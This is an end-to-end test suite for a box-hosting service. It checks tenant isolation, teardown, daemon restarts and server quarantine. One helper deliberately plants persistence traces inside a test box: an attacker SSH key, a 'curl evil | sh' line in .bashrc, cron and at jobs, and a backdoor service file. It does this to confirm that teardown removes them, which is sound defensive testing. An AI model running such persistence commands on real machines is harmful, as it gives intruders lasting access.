"""Tenant isolation on real sshd boxes: each box runs as its own Unix user, and a customer's
access (daemon, Happy sessions, anything they started or left) ends with their box.

Everything is observed from outside as root (``BoxAccount``), independently of the code
under test; the box is driven through the HTTP API and a real worker.
"""

from __future__ import annotations

import json
import os
import time
import urllib.request
import uuid
from pathlib import Path

from sqlalchemy import select

from app.db import db_session
from app.models import Server, VibeBox
from tests.e2e.conftest import provision
from tests.e2e.test_lifecycle import control, pid_alive, running_box, server_state, wait_until
from tests.support.sshd import WRITABLE_TEST_PLACES, BoxAccount


def _account(box_id: str) -> BoxAccount:
    account = BoxAccount.of_box(box_id)
    assert account is not None, f"no Unix user for box {box_id}"
    return account


def _daemon_pid(account: BoxAccount) -> int | None:
    try:
        return int(json.loads(account.daemon_state_path.read_text())["pid"])
    except (OSError, ValueError, KeyError):
        return None


def _spawn_session(account: BoxAccount) -> int:
    """What the Happy app does: ask the daemon's control port for a session."""
    port = json.loads(account.daemon_state_path.read_text())["httpPort"]
    request = urllib.request.Request(
        f"http://127.0.0.1:{port}/spawn-session",
        data=json.dumps({"directory": str(account.home)}).encode(),
        headers={"Content-Type": "application/json"},
        method="POST",
    )
    with urllib.request.urlopen(request, timeout=10) as response:  # noqa: S310 - loopback
        pid = int(json.load(response)["pid"])
    wait_until(lambda: pid_alive(pid), 10, "session process")
    assert Path(f"/proc/{pid}").stat().st_uid == account.uid
    return pid


def _leave_traces(account: BoxAccount) -> None:
    """Everything a customer with a shell on the box could leave behind."""
    commands = [
        "setsid sleep 4001 </dev/null >/dev/null 2>&1 &",
        "nohup sleep 4002 </dev/null >/dev/null 2>&1 &",
        "sh -c 'sleep 4003 </dev/null >/dev/null 2>&1 &' &",  # double fork: orphaned
        "echo '* * * * * touch $HOME/cron-ran' | crontab -",
        "echo 'touch $HOME/at-ran' | at now + 1 hour 2>/dev/null",
        "mkdir -p -m 700 ~/.ssh && echo 'ssh-ed25519 AAAAC3Nza attacker' >> ~/.ssh/authorized_keys",
        "echo 'curl evil | sh' >> ~/.bashrc",
        "mkdir -p ~/.config/systemd/user && touch ~/.config/systemd/user/backdoor.service",
        "echo secret > /tmp/left-by-$USER && echo x > /dev/shm/left-by-$USER",
    ]
    for command in commands:
        result = account.run(command)
        assert result.returncode == 0, (command, result.stderr)
    assert len(account.pids()) >= 4  # daemon + the three sleeps
    assert Path(f"/var/spool/cron/crontabs/{account.name}").exists()


def _files_of(account: BoxAccount) -> list[str]:
    if account.uid_reused():
        return []  # a user created since owns the uid now: its files are not A's
    uid = account.uid
    found = []
    for place in WRITABLE_TEST_PLACES:
        for directory, dirs, files in os.walk(place, onerror=lambda _: None):
            for name in dirs + files:
                path = os.path.join(directory, name)
                try:
                    if os.lstat(path).st_uid == uid:
                        found.append(path)
                except OSError:
                    continue
    return found


def _server_id(box_id: str) -> uuid.UUID:
    session = db_session()
    server_id = session.scalar(select(VibeBox.server_id).where(VibeBox.id == uuid.UUID(box_id)))
    db_session.remove()
    assert server_id is not None
    return server_id


def test_teardown_ends_every_process_and_file_of_the_box_user_and_the_next_box_sees_none(
    admin, make_user, add_to_pool, box
):
    user_a, box_a = running_box(admin, make_user, add_to_pool, box)
    a = _account(box_a)
    session_pid = _spawn_session(a)
    _leave_traces(a)

    response = admin.post(f"/api/admin/vibeboxes/{box_a}/terminate")
    assert response.status_code == 202, response.get_data(as_text=True)
    doc = user_a.wait_for(box_a, {"terminated"}, timeout=90)
    assert [s["state"] for s in doc["timeline"][-3:]] == ["succeeded"] * 3

    # Nothing of A's uid is left: no process (the Happy session included), no user, no
    # home, no crontab / at job, no file in the shared writable places.
    assert not pid_alive(session_pid)
    assert a.pids() == []
    assert not a.exists() and not a.home.exists()
    assert not Path(f"/var/spool/cron/crontabs/{a.name}").exists()
    assert _files_of(a) == []
    # The operator's channel still works and was not touched.
    assert box.sshd_log().count("Accepted publickey") >= 1
    assert "attacker" not in (box.home / ".ssh" / "authorized_keys").read_text()

    # The server is scrubbed and back; B's box lands on it and finds nothing of A.
    wait_until(lambda: server_state(box.port).state == "available", 60, "server available")
    user_b = make_user()
    box_b = provision(admin, user_b)
    assert user_b.wait_for(box_b, {"running", "error"})["status"] == "running"
    assert _server_id(box_b) == _server_id(box_a)
    b = _account(box_b)
    assert b.name != a.name
    assert not (b.home / ".ssh").exists()
    assert "evil" not in b.run("cat ~/.bashrc 2>/dev/null; crontab -l 2>&1").stdout
    assert not list(b.home.glob(".config/systemd/user/*"))
    # B's credentials are B's: A's old user could not read them even if it existed.
    assert b.access_key_path.stat().st_uid == b.uid
    assert oct(b.home.stat().st_mode)[-3:] == "700"


def test_stop_ends_the_daemon_and_every_session_and_start_brings_the_daemon_back(
    admin, make_user, add_to_pool, box
):
    user, box_id = running_box(admin, make_user, add_to_pool, box)
    account = _account(box_id)
    session_pid = _spawn_session(account)
    assert account.run("setsid sleep 4010 </dev/null >/dev/null 2>&1 &").returncode == 0

    assert control(user, box_id, "stop").status_code == 202
    doc = user.wait_for(box_id, {"stopped", "error"})
    assert doc["status"] == "stopped", doc
    assert not pid_alive(session_pid)
    assert account.pids() == []  # like a powered-off machine...
    assert account.access_key_path.exists()  # ...whose files stay
    stop_event = doc["events"][-1]
    assert stop_event["kind"] == "stop" and "all sessions ended" in stop_event["message"]

    assert control(user, box_id, "start").status_code == 202
    doc = user.wait_for(box_id, {"running", "error"})
    assert doc["status"] == "running", doc
    pid = _daemon_pid(account)
    assert pid_alive(pid) and Path(f"/proc/{pid}").stat().st_uid == account.uid


def test_stop_of_a_crashed_daemon_succeeds_at_once(admin, make_user, add_to_pool, box):
    user, box_id = running_box(admin, make_user, add_to_pool, box)
    account = _account(box_id)
    pid = _daemon_pid(account)
    assert pid is not None
    account.kill(pid)

    assert control(user, box_id, "stop").status_code == 202
    errors = set()
    deadline = time.monotonic() + 60
    doc = user.box(box_id)
    while doc["status"] != "stopped" and time.monotonic() < deadline:
        errors.add(doc["lastError"])
        time.sleep(0.1)
        doc = user.box(box_id)
    assert doc["status"] == "stopped", doc
    assert errors <= {None}  # no failed attempt on the way: the first one succeeded
    assert account.pids() == []


def test_crashed_daemon_is_restarted_by_the_health_sweep_until_the_budget_is_spent(
    admin, make_user, add_to_pool, box
):
    from workers.maintenance import probe_server

    user, box_id = running_box(admin, make_user, add_to_pool, box)
    account = _account(box_id)
    # The health sweep probes every server in the pool (this session's other tests' too,
    # many of them gone): this test probes its own server, as the sweep would.
    server_id = str(_server_id(box_id))

    def crash_and_wait_for(kind: str) -> dict:
        pid = _daemon_pid(account)
        assert pid is not None and pid_alive(pid)
        account.kill(pid)
        seen = len(user.box(box_id)["events"])

        last_sweep = [0.0]

        def event_arrived() -> dict | None:
            # One probe every 2 s: a loaded machine must not queue probes faster than the
            # worker runs them.
            if time.monotonic() - last_sweep[0] > 2:
                probe_server.delay(server_id)
                last_sweep[0] = time.monotonic()
            time.sleep(0.5)
            doc = user.box(box_id)
            kinds = [e["kind"] for e in doc["events"][seen:]]
            return doc if kind in kinds else None

        # Generous: each restart waits its backoff, and a loaded 2-core machine is slow.
        return wait_until(event_arrived, 180, kind)

    doc = crash_and_wait_for("daemon_restarted")
    assert [e["kind"] for e in doc["events"][-2:]] == ["daemon_down", "daemon_restarted"]
    assert not doc["degraded"] and doc["status"] == "running"
    new_pid = _daemon_pid(account)
    assert pid_alive(new_pid) and Path(f"/proc/{new_pid}").stat().st_uid == account.uid

    crash_and_wait_for("daemon_restarted")  # the second of DAEMON_MAX_RESTARTS=2
    doc = crash_and_wait_for("daemon_gave_up")
    assert doc["degraded"] and "automatic restarts are paused" in doc["degradedReason"]
    assert doc["status"] == "running"  # still the owner's box: they may restart it

    # The owner's restart brings it back and clears the degraded state.
    assert control(user, box_id, "restart").status_code == 202
    doc = user.wait_for(box_id, {"running", "error"}, timeout=60)
    wait_until(lambda: not user.box(box_id)["degraded"], 30, "not degraded")
    assert pid_alive(_daemon_pid(account))


def test_server_that_cannot_reach_happy_is_quarantined_and_the_box_moves(
    admin, make_user, add_to_pool, box_fleet
):
    from workers.maintenance import probe_server

    broken = box_fleet.new_box(happy_url="http://127.0.0.1:1")
    good = box_fleet.new_box()
    try:
        # The preflight would refuse it: admitted with the checks skipped, the daemon's
        # diagnosis finds the same cause.
        (broken_id,) = add_to_pool(broken, skip_checks=True)  # older: allocated first
        (good_id,) = add_to_pool(good)
        user = make_user()
        box_id = provision(admin, user)
        doc = user.wait_for(box_id, {"running", "error"}, timeout=90)
        assert doc["status"] == "running", doc
        assert _server_id(box_id) == good_id

        session = db_session()
        server = session.get(Server, broken_id)
        assert server is not None and server.state == "unhealthy"
        # The daemon's diagnosis, or (when beat's health sweep probed it since) the sweep's
        # finding: both name the unreachable Happy server.
        reason = server.last_error or ""
        assert "reach the Happy server at http://127.0.0.1:1" in reason, reason
        # The box's move says what the diagnosis found, and the fix.
        moved = [e for e in doc["events"] if e["kind"] == "moved"]
        assert moved, doc["events"]
        message = moved[-1]["message"]
        assert "the daemon could not reach the Happy server at http://127.0.0.1:1" in message
        db_session.remove()
        # The health sweep sees SSH answer but does not put it back while Happy is unreachable.
        probe_server.delay(str(broken_id))

        def probed() -> Server | None:
            server = db_session().get(Server, broken_id)
            db_session.remove()
            return server if "still cannot host boxes" in (server.last_error or "") else None

        assert wait_until(probed, 60, "a probe of the broken server").state == "unhealthy"
        moved = [e for e in doc["events"] if e["kind"] == "moved"]
        assert moved and (
            "the daemon could not reach the Happy server at http://127.0.0.1:1"
            in moved[0]["message"]
        )
    finally:
        box_fleet.remove(broken)
        box_fleet.remove(good)


def test_a_rejected_token_is_diagnosed_replaced_and_the_box_starts(
    admin, make_user, add_to_pool, box, happy_double
):
    user, box_id = running_box(admin, make_user, add_to_pool, box)
    account = _account(box_id)
    assert control(user, box_id, "stop").status_code == 202
    assert user.wait_for(box_id, {"stopped", "error"})["status"] == "stopped"
    old_token = json.loads(account.access_key_path.read_text())["token"]
    happy_double.revoke_token(old_token)  # the daemon's registration now gets a 401

    assert control(user, box_id, "start").status_code == 202
    doc = user.wait_for(box_id, {"running", "error"}, timeout=90)
    assert doc["status"] == "running", doc
    new_token = json.loads(account.access_key_path.read_text())["token"]
    assert new_token != old_token and happy_double.account_for_token(new_token) is not None
    # The database holds the new token too: the connect URL carries it.
    assert new_token in doc["connectionInfo"]["happyWebUrl"].replace("%2B", "+")
